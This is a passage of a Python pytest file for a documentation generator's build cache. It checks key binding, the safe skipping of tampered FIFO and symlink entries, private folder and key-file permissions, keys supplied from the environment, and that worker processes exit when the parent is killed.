    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Entries are bound to their key: a valid entry moved under another key is a miss.
    Two builds of different docs share the cache, then trade every entry of a kind."""
    other_docs = tmp_path / "other-docs"
    shutil.copytree(DOCS_SRC, other_docs)
    _edit(other_docs / "depot.md", "depot resource type", "warehouse resource type")
    _edit(other_docs / "depot.md", "microsoft.graph.depot", "microsoft.graph.warehouse")
    cache_dir = tmp_path / "cache"
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    expected = _reference(tmp_path, monkeypatch)
    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
    assert build(other_docs, tmp_path / "b", **kw) == 0
    assert read_tree(tmp_path / "b") != expected

    by_kind: dict[str, list[Path]] = {}
    for entry in _entries(cache_dir):
        by_kind.setdefault(entry.relative_to(cache_dir).parts[0], []).append(entry)
    assert len(by_kind["build"]) == 2
    for entries in by_kind.values():  # rotate the contents within each kind
        contents = [p.read_bytes() for p in entries]
        for path, data in zip(entries, contents[1:] + contents[:1], strict=True):
            path.write_bytes(data)
    shutil.rmtree(tmp_path / "a")
    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
    assert read_tree(tmp_path / "a") == expected


def test_entries_that_are_not_regular_files_are_skipped_without_hanging(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """FIFOs (opening one for reading blocks until a writer comes), links to /dev/zero
    (endless), to a file outside the cache and to another valid entry: all misses.
    The build runs in a subprocess with a timeout, so a hang fails the test."""
    from tests.cli_run import docgen

    expected = _reference(tmp_path, monkeypatch)
    cache_dir = tmp_path / "cache"
    monkeypatch.setenv("DOCGEN_CACHE_DIR", str(cache_dir))
    assert docgen("build", DOCS_SRC, "-o", tmp_path / "out", cwd=tmp_path).returncode == 0
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2\n")
    entries = _entries(cache_dir)
    assert len(entries) > 8
    targets = [Path("/dev/zero"), secret]
    contents = [p.read_bytes() for p in entries]
    for i, entry in enumerate(entries):
        valid = contents[i - 1]
        entry.unlink()
        if i % 4 == 0:
            os.mkfifo(entry)
        elif i % 4 == 3:
            other = entry.with_name(entry.name + ".moved")  # a valid entry, other key
            other.write_bytes(valid)
            entry.symlink_to(other)
        else:
            entry.symlink_to(targets[i % 2])
    for command, out in (("build", tmp_path / "out2"), ("check", tmp_path / "out2")):
        done = docgen(command, DOCS_SRC, "-o", out, "--jobs", "1", cwd=tmp_path, timeout=120)
        assert done.returncode == 0, done.stderr
        assert "hunter2" not in done.stdout + done.stderr
    assert read_tree(tmp_path / "out2") == expected
    assert secret.read_text() == "TOKEN=hunter2\n"  # links replaced, targets untouched
    assert all(p.is_file() and not p.is_symlink() for p in entries)  # written afresh


# --- the key and the folder ---------------------------------------------------


def test_an_entry_is_bound_to_its_kind_key_and_secret(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "c", SECRET)
    key, other = "ab" * 32, "cd" * 32
    cache.put("k", key, b"payload")
    cache._path("k", other).parent.mkdir(parents=True)
    shutil.copy(cache._path("k", key), cache._path("k", other))
    cache._path("j", key).parent.mkdir(parents=True)
    shutil.copy(cache._path("k", key), cache._path("j", key))
    assert cache.get("k", key) == b"payload"
    assert cache.get("k", other) is None  # copied to another key
    assert cache.get("j", key) is None  # copied to another kind
    assert Cache(tmp_path / "c", b"another-secret-0123456").get("k", key) is None


def test_the_default_cache_folder_is_private_to_the_user(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, private_user_dirs: Path
) -> None:
    """Not beside the output (a shared /tmp/out would put it in /tmp): under the
    user's cache home, mode 0700, with the key in a 0600 file of the config home."""
    import stat

    monkeypatch.delenv("DOCGEN_CACHE_DIR", raising=False)
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    out = shared / "out"
    assert cli.main(["build", str(DOCS_SRC), "-o", str(out)]) == 0
    assert sorted(p.name for p in shared.iterdir()) == ["out"]
    folder = default_dir(out)
    assert private_user_dirs / "cache" / "docgen" in folder.parents
    assert _entries(folder)  # the build used it
    for path in (folder, folder.parent, *(p for p in folder.rglob("*") if p.is_dir())):
        info = path.stat()
        assert stat.S_IMODE(info.st_mode) == 0o700, path
        assert info.st_uid == os.getuid()
    key = private_user_dirs / "config" / "docgen" / "cache-key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert len(key.read_text().strip()) == 64
    # Another output folder gets another cache folder.
    assert default_dir(shared / "other") != folder


def test_a_cache_folder_others_can_write_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    cache_dir = tmp_path / "cache"
    cache_dir.mkdir()
    cache_dir.chmod(0o777)
    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
    expected = _reference(tmp_path, monkeypatch)
    capsys.readouterr()
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    err = capsys.readouterr().err
    assert f"docgen: warning: build cache not used: cache folder {cache_dir} is writable" in err
    assert list(cache_dir.iterdir()) == []
    assert read_tree(tmp_path / "out") == expected


def test_a_key_file_others_can_read_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    (config / "docgen").mkdir(parents=True, mode=0o700)
    key = config / "docgen" / "cache-key"
    key.write_text("0123456789abcdef0123456789abcdef\n")
    key.chmod(0o644)
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    capsys.readouterr()
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    err = capsys.readouterr().err
    assert f"build cache not used: {key} is readable or writable by others" in err
    assert _entries(tmp_path / "cache") == []
    key.chmod(0o600)
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert "build cache not used" not in capsys.readouterr().err
    assert _entries(tmp_path / "cache")


def test_a_key_from_the_environment_replaces_the_key_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """CI passes its key in; entries written under one key are misses under another."""
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("DOCGEN_CACHE_KEY", "ci-secret-0123456789")
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert not (tmp_path / "config").exists()  # no key file made
    monkeypatch.setattr(extract_mod, "extract", _boom)
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0  # answered from the cache
    monkeypatch.setenv("DOCGEN_CACHE_KEY", "another-secret-0123456789")
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1  # nothing usable: extracts
    monkeypatch.setenv("DOCGEN_CACHE_KEY", "short")
    capsys.readouterr()
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1
    assert "$DOCGEN_CACHE_KEY is shorter than 16 characters" in capsys.readouterr().err


def test_without_a_home_folder_the_build_runs_without_the_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def no_home() -> Path:
        raise RuntimeError("Could not determine home directory.")

    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setattr(Path, "home", no_home)
    monkeypatch.chdir(tmp_path)
    expected = _reference(tmp_path, monkeypatch)
    capsys.readouterr()
    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
    assert "build cache not used: no home folder to keep it in (set $XDG_CONFIG_HOME)" in (
        capsys.readouterr().err
    )
    assert read_tree(tmp_path / "out") == expected
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "plain"]


def test_model_data_round_trips_and_rejects_what_it_did_not_write() -> None:
    from docgen.cache import from_data, to_data
    from docgen.model import Diagnostic, Model, Property, TypeDef

    prop = Property("a", "a", "Edm.String", False, False, None, True, "d", 3, enum="ns.e")
    t = TypeDef("x", "ns", "complex", "x.md", 1, "", "X", "x", key=("id",), properties=(prop,))
    model = Model((t,), (Diagnostic("x.md", 1, 2, "warning", "DG100", "m"),))
    data = to_data(model)
    assert from_data(Model, data) == model
    for bad in (
        (data[0],),  # a field missing
        ((data[0][0][:-1],), data[1]),  # a TypeDef with a field missing
        (data[0], ((["x.md"], 1, 2, "warning", "DG100", "m"),)),  # a list where a str goes
        [data[0], data[1]],  # a list where a tuple goes
    ):
        with pytest.raises((TypeError, ValueError)):
            from_data(Model, bad)


_KILLED_BUILD = """
import os, sys, time
from pathlib import Path
from docgen import cli, resolve

def stop(*args, **kwargs):
    # The pool has extracted the pages and been given warm-up work: report the
    # workers' pids, then wait here to be killed.
    me = os.getpid()
    kids = []
    for task in Path(f"/proc/{me}/task").iterdir():
        kids += (task / "children").read_text().split()
    print(" ".join(kids), flush=True)
    time.sleep(600)

resolve.resolve = stop
cli.main(["build", sys.argv[1], "-o", sys.argv[2], "--no-cache", "--jobs", "2"])
"""


def _alive(pid: int) -> bool:
    """Running (not a zombie awaiting its reaper)."""
    try:
        stat_line = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat_line.rpartition(")")[2].split()[0] != "Z"


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="finds workers in /proc")
def test_workers_exit_when_the_main_process_is_killed(tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys
    import time

    from tests.test_diff import page

    docs = tmp_path / "docs"
    docs.mkdir()
    for i in range(3 * pipeline.MIN_PARALLEL_PAGES):  # enough pages for the pool
        (docs / f"thing{i}.md").write_text(page(f"thing{i}", [("name", "String")]))
    main = subprocess.Popen(
        [sys.executable, "-c", _KILLED_BUILD, str(docs), str(tmp_path / "out")],
        stdout=subprocess.PIPE,
        text=True,
    )
    workers: list[int] = []
    try:
        assert main.stdout is not None
        workers += [int(pid) for pid in main.stdout.readline().split()]
        assert len(workers) == 2, workers
        assert all(_alive(pid) for pid in workers)
        main.send_signal(signal.SIGKILL)
        main.wait(timeout=30)
        deadline = time.monotonic() + 10
        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not any(_alive(pid) for pid in workers), "workers outlived their parent"
    finally:
        main.kill()
        main.wait(timeout=30)
        for pid in workers:
            if _alive(pid):  # the test failed: leave no orphans behind
                os.kill(pid, signal.SIGKILL)
